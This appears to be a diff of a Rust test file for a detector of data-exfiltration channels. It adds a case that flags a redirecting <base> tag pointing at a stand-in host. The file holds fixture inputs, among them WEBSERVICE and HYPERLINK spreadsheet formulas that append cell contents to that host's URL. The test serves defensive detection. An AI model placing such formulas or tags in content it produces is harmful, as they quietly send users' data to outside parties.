@@ -103,9 +103,11 @@ fn images_of_a_pixel_forms_and_formulas_are_found() {
     );
     addressed("=WEBSERVICE(\"https://h.example/?d=\"&A1)", "link/formula");
     addressed("=HYPERLINK(\"https://h.example/?d=\"&A1&B1,\"more\")", "link/formula");
+    assert_eq!(found("<base target=_top href=\"https://h.example/\">"), [("link/base", Mentioned)]);
     nothing(&[
         "<img src=\"/chart.png\" width=\"100\" height=\"100\">",
         "<form action=\"https://search.example/\"><input name=q value=\"\"></form>",
+        "<base href=\"/docs/\"><img src=\"a.png\">",
         "=HYPERLINK(\"https://example.com/\",\"home\")",
         "=SUM(A1:A9)",
     ]);
